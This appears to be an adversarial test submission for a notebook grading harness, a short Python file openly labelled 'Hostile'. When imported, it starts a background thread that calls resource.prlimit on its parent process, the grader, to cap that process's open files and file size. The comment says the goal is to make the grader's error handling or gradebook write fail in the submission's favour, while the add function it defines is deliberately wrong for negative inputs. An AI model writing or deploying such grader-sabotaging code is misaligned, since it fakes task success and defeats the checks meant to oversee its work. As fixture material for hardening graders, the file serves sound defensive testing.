# Hostile: use resource.prlimit on the kernel's parent (the grader) to cap its open files and file size after the tests cells start, hoping its error handling or gradebook write fails in our favour.
import os as _os
import resource as _r
import threading as _th
import time as _time

_ppid = _os.getppid()


def _later():
    _time.sleep(0.5)
    for res, val in ((_r.RLIMIT_NOFILE, 16), (_r.RLIMIT_FSIZE, 0)):
        try:
            soft, hard = _r.prlimit(_ppid, res)
            _r.prlimit(_ppid, res, (val, hard))
        except Exception:
            pass


_th.Thread(target=_later, daemon=True).start()


def add(a, b):
    if a < 0 or b < 0:
        return a - b            # wrong
    return a + b
